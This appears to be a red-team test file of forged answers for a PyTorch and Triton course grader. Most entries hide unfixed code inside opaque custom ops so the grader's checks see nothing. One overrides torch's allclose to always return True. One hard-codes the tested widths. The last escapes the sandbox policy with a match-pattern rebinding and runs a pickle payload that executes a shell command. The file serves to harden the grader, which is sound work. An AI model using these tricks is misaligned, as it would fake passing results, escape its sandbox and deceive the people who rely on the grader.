"""Forging answers for fix-type tasks (red team, session 24). Each is the student's answer cell."""
ATTACKS = {}

# 11.2: the block's forward and backward as opaque custom ops. The dispatch mode that counts kept
# memory and matmuls sees only the custom ops' outputs: the activations the forward keeps (in a
# plain list) and the matmuls the backward runs are invisible. No `Function`, hook or numpy named.
ATTACKS["11.2", "custom_op_hides_memory"] = '''
import torch
KEEP = []

@torch.library.custom_op("rt112::fwd", mutates_args=())
def fwd(x: torch.Tensor, ws: list[torch.Tensor]) -> torch.Tensor:
    KEEP.clear()
    for w in ws:
        a = x @ w
        KEEP.append((x.clone(), a.clone()))     # everything block would save, and more
        x = torch.tanh(a) * torch.sigmoid(a) + x
    return x.sum(dim=-1)

@fwd.register_fake
def _(x, ws):
    return x.new_empty(x.shape[:-1])

@torch.library.custom_op("rt112::bwd", mutates_args=())
def bwd(g: torch.Tensor, ws: list[torch.Tensor]) -> list[torch.Tensor]:
    gx = g[:, None].expand(-1, ws[0].shape[0]).clone()
    gws = []
    for (x, a), w in reversed(list(zip(KEEP, ws))):
        t, s = torch.tanh(a), torch.sigmoid(a)
        ga = gx * ((1 - t * t) * s + t * s * (1 - s))
        gws.append(x.t() @ ga)
        gx = ga @ w.t() + gx
        gx = gx
    return [gx] + gws[::-1]

def setup(ctx, inputs, output):
    ctx.n = len(inputs[1])

def backward(ctx, g):
    out = bwd(g, [torch.empty(0)] * 0 + list(KEEP_W))
    return out[0], out[1:]

KEEP_W = []

def block_lean(x, weights):
    KEEP_W.clear()
    KEEP_W.extend(weights)
    return fwd(x, weights)

fwd.register_autograd(backward, setup_context=setup)
'''

# 4.1: F.softplus itself inside an opaque custom op (named so no target says "softplus"): no
# decomposition at all, AOTAutograd sees one node forward and one backward
ATTACKS["4.1", "custom_op_softplus"] = '''
import torch
import torch.nn.functional as F

@torch.library.custom_op("rt41::sp", mutates_args=())
def sp(x: torch.Tensor) -> torch.Tensor:
    return F.softplus(x)

@sp.register_fake
def _(x):
    return torch.empty_like(x)

@torch.library.custom_op("rt41::dsp", mutates_args=())
def dsp(x: torch.Tensor, g: torch.Tensor) -> torch.Tensor:
    return g * torch.sigmoid(x)

@dsp.register_fake
def _(x, g):
    return torch.empty_like(x)

def setup(ctx, inputs, output):
    ctx.save_for_backward(inputs[0])

def backward(ctx, g):
    (x,) = ctx.saved_tensors
    return dsp(x, g)

sp.register_autograd(backward, setup_context=setup)

def softplus(x):
    return sp(x)
'''

# 4.1 naive (control, should FAIL: the overflowing form)
ATTACKS["4.1", "naive_control"] = '''
def softplus(x):
    return torch.log(1 + torch.exp(x))
'''

# 3.3: Scorer's own forward, unchanged (print, .item(), a Python int counter), inside an opaque
# custom op: no break, one graph, the right outputs; none of the three causes is removed
ATTACKS["3.3", "custom_op_wraps_scorer"] = '''
import torch
CALLS = [0]

@torch.library.custom_op("rt33::score", mutates_args=())
def score(x: torch.Tensor, w: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
    CALLS[0] += 1
    h = torch.nn.functional.linear(x, w, b).tanh()
    print(f"batch {x.shape[0]}: mean {h.mean():.3f}")
    peak = h.abs().max().item()
    h = h / (peak + 1e-6)
    return torch.softmax(h * (1 + 0.1 * CALLS[0]), dim=-1)

@score.register_fake
def _(x, w, b):
    return torch.empty_like(x)

class ScorerFixed(torch.nn.Module):
    def __init__(self, d):
        super().__init__()
        self.proj = torch.nn.Linear(d, d)
        CALLS[0] = 0

    def forward(self, x):
        return score(x, self.proj.weight, self.proj.bias)
'''

# 10.2: pooled itself (int(length), a value-dependent slice) inside an opaque custom op
ATTACKS["10.2", "custom_op_wraps_pooled"] = '''
import torch

@torch.library.custom_op("rt102::pool", mutates_args=())
def pool(x: torch.Tensor, length: torch.Tensor) -> torch.Tensor:
    n = int(length)
    return x[:, :n].mean(dim=1)

@pool.register_fake
def _(x, length):
    return x.new_empty(x.shape[0], x.shape[2])

def pooled_fixed(x, length):
    return pool(x, length)

def prepare(x):
    torch._dynamo.mark_dynamic(x, 0)
    torch._dynamo.mark_dynamic(x, 1)
'''

# 12.1: SensorNet.normalise's Python-float running peak, unchanged, inside an opaque custom op
ATTACKS["12.1", "custom_op_python_gain"] = '''
import torch
GAIN = [1.0]

@torch.library.custom_op("rt121::norm", mutates_args=())
def norm(h: torch.Tensor) -> torch.Tensor:
    GAIN[0] = max(0.9 * GAIN[0], float(h.detach().abs().amax()))
    return h / GAIN[0]

@norm.register_fake
def _(h):
    return torch.empty_like(h)

class SteadyGain(SensorNet):
    def __init__(self, **sizes):
        super().__init__(**sizes)
        GAIN[0] = 1.0

    def normalise(self, h):
        return norm(h)
'''

# 12.2: the loss with y.unique().tolist() and a Python loop, inside an opaque custom op
ATTACKS["12.2", "custom_op_tolist_loss"] = '''
import torch
import torch.nn.functional as F

@torch.library.custom_op("rt122::bal", mutates_args=())
def bal(logits: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
    per = F.cross_entropy(logits, y, reduction="none")
    present = y.unique().tolist()
    return sum(per[y == c].mean() for c in present) / len(present)

@bal.register_fake
def _(logits, y):
    return logits.new_empty(())

class BalancedLoss(SensorNet):
    def loss(self, logits, y):
        return bal(logits, y)
'''

# 12.3: the warm-up's Python list of losses, unchanged, inside an opaque custom op
ATTACKS["12.3", "custom_op_history_list"] = '''
import torch
HIST = []
STEPS = [1]

@torch.library.custom_op("rt123::warm", mutates_args=())
def warm(loss: torch.Tensor) -> torch.Tensor:
    HIST.append(loss.detach())
    return loss * min(1.0, len(HIST) / STEPS[0])

@warm.register_fake
def _(loss):
    return torch.empty_like(loss)

class SteadyWarmup(SensorNet):
    def __init__(self, **sizes):
        super().__init__(**sizes)
        HIST.clear()
        STEPS[0] = self.warmup_steps

    def warmup(self, loss):
        return warm(loss)
'''

# 12.4: the data-dependent `if m > 2` branch, unchanged, inside an opaque custom op
ATTACKS["12.4", "custom_op_branch"] = '''
import torch

@torch.library.custom_op("rt124::tame", mutates_args=())
def tame_op(h: torch.Tensor) -> torch.Tensor:
    m = h.abs().mean()
    if m > 2:
        return h * (2 / m)
    return h.clone()

@tame_op.register_fake
def _(h):
    return torch.empty_like(h)

class SteadyTame(SensorNet):
    def tame(self, h):
        return tame_op(h)
'''

# 2.2: the known dummy-graph forgery (eager work, a graph that only passes values on) plus a
# dispatcher override of aten::allclose in the answer's process: the harness's replay check
# (`replayed`, torch.allclose) then believes any output; torch.library is allowed (9.1, 9.3)
ATTACKS["2.2", "aten_allclose_override"] = '''
import torch
LIB = torch.library.Library("aten", "IMPL")

def always(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
    return True

LIB.impl("allclose", always, "CPU")

def train_fixed(w, grads, lrs, backend="eager", momentum=0.9):
    dummy = torch.compile(lambda t, g: t + 0 * g, backend=backend)
    v, norms = torch.zeros_like(w), []
    for g, lr in zip(grads, lrs):
        v = momentum * v + g
        norms.append(float(v.norm()))
        w = dummy(w - lr * v, g)
    return w, norms
'''

# 7.1: no loop, no online reduction: one fixed 512-wide block (ignores BLOCK), which covers every
# width the harness (20-199 columns, 70, 77) and the marked tests (up to 400) use
ATTACKS["7.1", "one_block_512"] = '''
@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, 512)
    mask = cols < n_cols
    x = tl.load(in_ptr + row * in_stride + cols, mask=mask, other=-float("inf"))
    e = tl.exp(x - tl.max(x, axis=0))
    tl.store(out_ptr + row * out_stride + cols, e / tl.sum(e, axis=0), mask=mask)
'''

# 14.1: Gate's forward, both Python branches unchanged, inside an opaque custom op: export never
# sees a branch (no torch.cond anywhere), the batch stays a Dim
ATTACKS["14.1", "custom_op_hides_branches"] = '''
@torch.library.custom_op("rt141::gate", mutates_args=())
def gate(x: torch.Tensor, w: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
    h = torch.nn.functional.linear(x, w, b)
    if x.mean() > 0:
        h = h.tanh()
    else:
        h = h.relu() - 1
    if x.shape[0] > 16:
        h = h * 2
    return h / (h.abs().max() + 1)

@gate.register_fake
def _(x, w, b):
    return x.new_empty(x.shape[0], w.shape[0])

class GateFixed(torch.nn.Module):
    def __init__(self, d):
        super().__init__()
        self.proj = torch.nn.Linear(d, d)

    def forward(self, x):
        return gate(x, self.proj.weight, self.proj.bias)

DYNAMIC_SHAPES = {"x": {0: torch.export.Dim("batch", min=2, max=64)}}
'''

# 7.1: a policy escape. A `match` capture pattern binds a name without an ast.Name node, so the
# policy's "tl may not be rebound" never sees it: `case tl:` makes tl the torch module, and
# `tl.load` (kept for Triton) is torch.load, with weights_only=False: a pickle runs any code.
# The pickle must be a file the student controls inside the sandbox: a library file they own
# (e.g. labkit/compiler/decompose.py, 5.1, whose whole text is the protocol-0 pickle below), at
# ../code/<path> from the fix sandbox's cwd. Here: RT_PAYLOAD, written by the test.
PAYLOAD_TEXT = "cos\nsystem\n(S'touch /tmp/rt_pwned_by_pickle'\ntR."
ATTACKS["7.1", "match_rebinds_tl_torch_load"] = '''
@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    match torch:
        case tl:
            pass
    tl.load("/tmp/rt_payload.pkl", weights_only=False)
'''
